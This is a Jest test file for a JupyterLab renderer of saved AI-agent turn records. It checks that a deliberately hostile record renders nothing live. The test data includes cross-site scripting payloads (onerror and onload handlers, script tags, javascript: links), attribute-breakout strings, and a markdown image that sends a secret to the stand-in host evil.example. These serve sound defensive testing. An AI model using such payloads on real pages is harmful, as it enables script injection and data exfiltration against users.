/**
 * @jest-environment jsdom
 *
 * A saved turn record is a file anyone can write: the renderer must put nothing
 * live on the page, whatever the record holds. JupyterLab's rendering helpers are
 * replaced by stand-ins that behave as the real ones do where it matters: the
 * markdown parser passes raw HTML through and makes images and links of markdown
 * syntax, and the sanitizer, like JupyterLab's, removes scripts and handlers but
 * keeps remote images. A lumino widget is a node with classes here.
 */
jest.mock('@lumino/widgets', () => ({
  Widget: class {
    node = document.createElement('div');
    isAttached = false;
    addClass(name: string): void {
      this.node.classList.add(name);
    }
  }
}));
jest.mock('@jupyterlab/rendermime', () => {
  const renderHTML = async (options: any) => {
    options.host.innerHTML = options.trusted
      ? options.source
      : options.sanitizer.sanitize(options.source);
  };
  return {
    removeMath: (text: string) => ({ text, math: [] }),
    replaceMath: (text: string) => text,
    renderHTML,
    renderMarkdown: async (options: any) => {
      const html = await options.markdownParser.render(options.source);
      await renderHTML({ ...options, source: html });
    }
  };
});

import { TURN_MIME, TurnRenderer } from '../turn';
import { setTurnSource } from '../turnsource';
import { PAYLOADS, problems } from './pagechecks';

const markdownParser = {
  render: async (source: string) =>
    source
      .replace(/!\[([^\]]*)\]\(([^)\s]+)\)/g, '<img alt="$1" src="$2">')
      .replace(/\[([^\]]*)\]\(([^)\s]+)\)/g, '<a href="$2">$1</a>')
      .replace(/\*\*([^*]+)\*\*/g, '<strong>$1</strong>')
};
const sanitizer = {
  sanitize: (html: string) =>
    html
      .replace(/<script[\s\S]*?<\/script>/gi, '')
      .replace(/\son\w+=("[^"]*"|'[^']*'|[^\s>]+)/gi, '')
};

const HOSTILE = PAYLOADS.join('\n\n');

function hostileRecord(): Record<string, unknown> {
  return {
    version: 2,
    turn: 3,
    model: '<img src=x onerror=alert(1)>',
    prompt: HOSTILE,
    answer:
      'Revenue **grew**. ![chart](https://evil.example/steal?q=SECRET) ' +
      '[ok](https://example.com) [bad](javascript:alert(1))\n\n' +
      'Draw it in an <svg onload=alert(1)> element, then save it.\n\n' +
      HOSTILE,
    tool_calls: [
      {
        id: 'toolu_1',
        name: '<svg onload=alert(1)>',
        input: { q: HOSTILE },
        result: [{ type: 'text', text: HOSTILE }],
        is_error: true
      }
    ],
    delegations: [
      {
        agent: '<img src=x onerror=alert(1)>',
        agent_id: 'a1',
        description: HOSTILE,
        prompt: HOSTILE,
        model: 'claude-haiku-4-5',
        status: 'ok" onclick="alert(1)',
        answer: HOSTILE,
        tool_calls: [{ id: 'toolu_2', name: 'Write', input: { q: HOSTILE } }],
        usage: {},
        requests: [],
        memdir: null,
        memories_written: [{ file: 'project_refunds_join.md', by: 'agent' }],
        transcript: '<script>alert(1)</script>'
      }
    ],
    recall: {
      mode: 'prefetch',
      decisions: [
        {
          file: '<img src=x onerror=alert(1)>.md',
          decision: 'injected" onclick="alert(1)',
          reason: HOSTILE
        }
      ]
    },
    context: {
      window: 200000,
      used: 1000,
      categories: [{ name: '<img src=x onerror=alert(1)>', tokens: 1000 }]
    },
    memories_written: [
      { file: '<img src=x onerror=alert(1)>.md', by: HOSTILE }
    ],
    events: [{ kind: 'warning jp-Dialog', text: HOSTILE }],
    status: '<script>alert(1)</script>'
  };
}

async function render(record: Record<string, unknown>): Promise<TurnRenderer> {
  const renderer = new TurnRenderer({
    mimeType: TURN_MIME,
    sanitizer,
    resolver: null,
    linkHandler: null,
    latexTypesetter: null,
    markdownParser
  } as any);
  await renderer.renderModel({
    data: { [TURN_MIME]: record },
    metadata: {},
    trusted: false,
    setData: () => undefined
  } as any);
  return renderer;
}

describe('TurnRenderer', () => {
  it('puts nothing live on the page from a hostile record', async () => {
    const renderer = await render(hostileRecord());
    expect(problems(renderer.node.innerHTML)).toEqual([]);
    const answer = renderer.node.querySelector('.jp-MemoryTurn-answer')!;
    expect(answer.querySelector('strong')?.textContent).toBe('grew');
    expect(answer.textContent).toContain(
      'chart (image not loaded: https://evil.example/steal?q=SECRET)'
    );
    const links = Array.from(answer.querySelectorAll('a')).map(a =>
      a.getAttribute('href')
    );
    expect(links).toEqual(['https://example.com']);
    expect(answer.textContent).toContain('bad (link removed)');
    // Raw HTML in prose loses its tag, not the text after it (only an unclosed
    // <script> or <style> swallows the rest, as in any browser).
    expect(answer.textContent).toContain(
      'Draw it in an  element, then save it.'
    );
    // Everything else is text: the tool name is there, as words.
    expect(renderer.node.textContent).toContain('<svg onload=alert(1)>');
  });

  it('keeps record values to one class token each', async () => {
    const renderer = await render(hostileRecord());
    const row = renderer.node.querySelector('.jp-MemoryTurn-decision')!;
    expect(row.className).toBe(
      'jp-MemoryTurn-decision jp-mod-injectedonclickalert1'
    );
    const event = renderer.node.querySelector('.jp-MemoryTurn-event')!;
    expect(event.classList.contains('jp-Dialog')).toBe(false);
    const run = renderer.node.querySelector('.jp-MemoryTurn-delegation')!;
    expect(run.className).toBe(
      'jp-MemoryTurn-section jp-MemoryTurn-delegation jp-mod-okonclickalert1'
    );
  });

  it('shows what a delegated agent did', async () => {
    const renderer = await render(hostileRecord());
    const section = renderer.node.querySelector('.jp-MemoryTurn-delegations')!;
    expect(section.querySelector('summary')?.textContent).toBe('Delegated (1)');
    const text = section.textContent!;
    expect(text).toContain('Saved in its own memory: project_refunds_join.md');
    expect(text).toContain('Its messages: <script>alert(1)</script>');
    expect(
      section.querySelector('.jp-MemoryTurn-tool summary')?.textContent
    ).toBe('Write');
  });

  it('words the recall table for people', async () => {
    const renderer = await render({
      version: 2,
      turn: 2,
      answer: 'ok',
      recall: {
        mode: 'index',
        decisions: [
          {
            file: 'a.md',
            decision: 'injected',
            path: 'A',
            age_days: 0,
            reason: 'its pointer is sent; the body only if read (path C)'
          },
          { file: 'b.md', decision: 'not_selected', age_days: 12 }
        ]
      }
    });
    const summary = renderer.node.querySelector(
      '.jp-MemoryTurn-recall summary'
    )!;
    expect(summary.textContent).toContain(
      'Recalled memories (pointer lines of 1 of 2 sent, index mode)'
    );
    const cells = Array.from(
      renderer.node.querySelectorAll('.jp-MemoryTurn-decision')
    ).map(row => Array.from(row.children).map(td => td.textContent));
    expect(cells[0][2]).toBe(
      'path A: its pointer is sent; the body only if read (path C)'
    );
    expect(cells[0][3]).toBe('today');
    expect(cells[1][3]).toBe('12 days ago');
  });
});

/** Two turns of one session, as a version-2 notebook keeps them: the second
 * refers to the system prompt, the tools and the first messages that only the
 * first output holds. Digests are this file's own, so no other test's parts
 * are remembered for them. */
function twoTurns(): Record<string, any>[] {
  const system = [
    { type: 'text', text: 'You are a data assistant.\nAnswer briefly.' }
  ];
  const first = {
    version: 2,
    session_id: 's-two',
    turn: 1,
    started: '2026-12-01T10:00:00Z',
    prompt: 'hi',
    parts: {
      sha256_two_s: system,
      sha256_two_t: [{ name: 'Read', input_schema: { type: 'object' } }],
      sha256_two_m1: { role: 'user', content: [{ type: 'text', text: 'hi' }] },
      sha256_two_c1: { prefix: null, messages: ['sha256_two_m1'] }
    },
    requests: [
      {
        round: 0,
        digest: 'sha256:one',
        params: { model: 'm', max_tokens: 10 },
        system: 'sha256_two_s',
        tools: 'sha256_two_t',
        conversation: 'sha256_two_c1',
        cache_marks: [],
        sent: '2026-12-01T10:00:01Z'
      }
    ]
  };
  const second = {
    version: 2,
    session_id: 's-two',
    turn: 2,
    started: '2026-12-01T10:01:00Z',
    prompt: 'and now?',
    parts: {
      sha256_two_m2: {
        role: 'assistant',
        content: [{ type: 'text', text: 'hello' }]
      },
      sha256_two_m3: {
        role: 'user',
        content: [{ type: 'text', text: 'and now?' }]
      },
      sha256_two_c2: {
        prefix: 'sha256_two_c1',
        messages: ['sha256_two_m2', 'sha256_two_m3']
      }
    },
    calls: [
      {
        kind: 'selector',
        turn: 2,
        during_turn: true,
        sent: '2026-12-01T10:01:00.500Z'
      }
    ],
    requests: [
      {
        round: 0,
        digest: 'sha256:two',
        params: { model: 'm', max_tokens: 10 },
        system: 'sha256_two_s',
        tools: 'sha256_two_t',
        conversation: 'sha256_two_c2',
        cache_marks: [],
        sent: '2026-12-01T10:01:01Z'
      }
    ]
  };
  return [first, second];
}

describe('TurnRenderer requests', () => {
  afterEach(() => setTurnSource(null));

  it("rebuilds a later turn's request from the notebook's earlier outputs", async () => {
    const records = twoTurns();
    setTurnSource(record =>
      records.some(r => r.turn === record.turn)
        ? { path: 'work/two turns.ipynb', records }
        : null
    );
    const renderer = await render(records[1]);
    const request = renderer.node.querySelector('.jp-MemoryTurn-request')!;
    // The selector's call came first: the main request is call 2 of turn 2.
    expect(request.querySelector('summary')!.textContent).toMatch(
      /^Call 2 · round 1 · sha256:two/
    );
    const text = request.querySelector('pre')!.textContent!;
    // The system prompt as text, its lines kept, not one JSON string.
    expect(text).toContain(
      'system (1 block):\n  You are a data assistant.\n  Answer briefly.'
    );
    expect(text).not.toContain('\\n');
    expect(text).toContain('tools (1): Read');
    expect(text).toContain('messages (3):');
    expect(text).toContain('[3] user:\n    text:\n      and now?');
    expect(request.querySelector('code')!.textContent).toBe(
      "jupyter-memory request 'work/two turns.ipynb' --turn 2 --call 2"
    );
    expect(renderer.node.textContent).not.toContain('`');
  });

  it('counts turns by their place in the notebook, from 1', async () => {
    const records = twoTurns();
    const renderer = await (async () => {
      setTurnSource(() => ({ path: 'a.ipynb', records: [records[1]] }));
      return render(records[1]);
    })();
    // The first turn's output was cleared: this is the notebook's turn 1.
    expect(renderer.node.querySelector('code')!.textContent).toBe(
      'jupyter-memory request a.ipynb --turn 1 --call 2'
    );
  });

  it('names the missing parts and the command when no notebook is known', async () => {
    const [, second] = twoTurns();
    second.requests[0].system = 'sha256_two_elsewhere';
    const renderer = await render(second);
    const request = renderer.node.querySelector('.jp-MemoryTurn-request')!;
    expect(request.textContent).toContain(
      'Its system part lives in an earlier output of this notebook'
    );
    expect(request.querySelector('code')!.textContent).toBe(
      'jupyter-memory request NOTEBOOK --turn 2 --call 2'
    );
  });
});
